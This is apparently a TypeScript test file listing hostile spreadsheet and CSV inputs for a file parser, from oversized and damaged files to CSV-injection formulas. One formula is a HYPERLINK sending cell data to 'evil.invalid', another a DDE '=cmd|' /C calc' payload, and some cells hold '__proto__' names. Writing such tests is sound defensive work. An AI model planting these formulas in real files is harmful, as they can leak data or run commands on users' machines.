import { xlsxOf, type CellInput } from "../files/xlsx.ts";
import type { HostileFile } from "./hostile-file.ts";

const sheetNamespace = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';

function sheetXml(inner: string, after = ""): string {
  return `<?xml version="1.0"?><worksheet ${sheetNamespace}><sheetData>${inner}</sheetData>${after}</worksheet>`;
}

const bookWith = (xml: string | Uint8Array) => xlsxOf({ sheets: [{ name: "数据", rows: [], xml }] });

const bookOf = (rows: readonly (readonly CellInput[])[], date1904 = false) =>
  xlsxOf({ sheets: [{ name: "数据", rows }], formats: ["yyyy/m/d"], date1904 });

const rows = (count: number) =>
  Array.from({ length: count }, (_, index) => `<row r="${index + 1}"><c r="A${index + 1}"><v>1</v></c></row>`).join("");

const csv = (text: string) => new TextEncoder().encode(text);

export const hostileSheets: readonly HostileFile[] = [
  {
    what: "one cell merged over the whole sheet",
    name: "数据.xlsx",
    bytes: () =>
      bookWith(
        sheetXml(
          '<row r="1"><c r="A1" t="inlineStr"><is><t>总数</t></is></c><c r="B1"><v>12</v></c></row>',
          '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        ),
      ),
    outcome: "read",
    holds: "总数",
  },
  {
    what: "one cell in the last corner of the sheet",
    name: "数据.xlsx",
    bytes: () => bookWith(sheetXml('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
    outcome: "FILE_TOO_MANY_CELLS",
  },
  {
    what: "a million rows",
    slow: true,
    name: "数据.xlsx",
    bytes: () => bookWith(sheetXml(rows(1_000_000))),
    outcome: "FILE_TOO_MANY_CELLS",
  },
  {
    what: "a cell that names a text that is not there",
    name: "数据.xlsx",
    bytes: () => bookOf([["甲", { type: "s", value: 99_999_999 }]]),
    outcome: "FILE_DAMAGED",
  },
  {
    what: "formulas that fetch or run something",
    name: "数据.xlsx",
    bytes: () =>
      bookOf([
        ["名称", "数"],
        [{ type: "str", formula: 'HYPERLINK("http://evil.invalid/"&A2,"点我")', value: "=cmd|' /C calc'!A0" }, 12],
        ["@SUM(1)", 13],
      ]),
    outcome: "read",
    holds: "=cmd|' /C calc'!A0\t12",
    lacks: "evil.invalid",
  },
  {
    what: "names of JavaScript's own objects",
    name: "数据.xlsx",
    bytes: () =>
      xlsxOf({
        sheets: [
          {
            name: "__proto__",
            rows: [
              ["constructor", "__proto__"],
              ["toString", 7],
            ],
          },
        ],
      }),
    outcome: "read",
    holds: "__proto__\nconstructor\t__proto__\ntoString\t7",
  },
  {
    what: "days counted from 1904, a huge number and a broken reference",
    name: "数据.xlsx",
    bytes: () =>
      bookOf(
        [
          ["日期", "数", "引用"],
          [{ value: 43069, style: 1 }, { value: "1E+15" }, { type: "e", value: "#REF!" }],
        ],
        true,
      ),
    outcome: "read",
    holds: "2021/12/1\t1E+15",
    lacks: "#REF!",
    leftOut: "error-cell",
  },
  {
    what: "a cut workbook",
    name: "数据.xlsx",
    bytes: () => bookOf([["甲", 1]]).slice(0, -60),
    outcome: "FILE_DAMAGED",
  },
  {
    what: "one line of 29 MB",
    name: "数据.csv",
    bytes: () => csv("1".repeat(29 * 1024 * 1024)),
    outcome: "FILE_TOO_COMPLEX",
  },
  {
    what: "a million columns",
    name: "数据.csv",
    bytes: () => csv("1,".repeat(1_000_000)),
    outcome: "FILE_TOO_MANY_CELLS",
  },
  { what: "a quote that never ends", name: "数据.csv", bytes: () => csv('甲,"乙\n丙,1\n'), outcome: "FILE_DAMAGED" },
  { what: "zeros between its letters", name: "数据.csv", bytes: () => csv("甲\u0000,1\n"), outcome: "FILE_BINARY" },
  {
    what: "line ends of three systems",
    name: "数据.csv",
    bytes: () => csv("甲,数\r乙,1\r\n丙,2\n"),
    outcome: "read",
    holds: "甲\t数\n乙\t1\n丙\t2",
  },
];
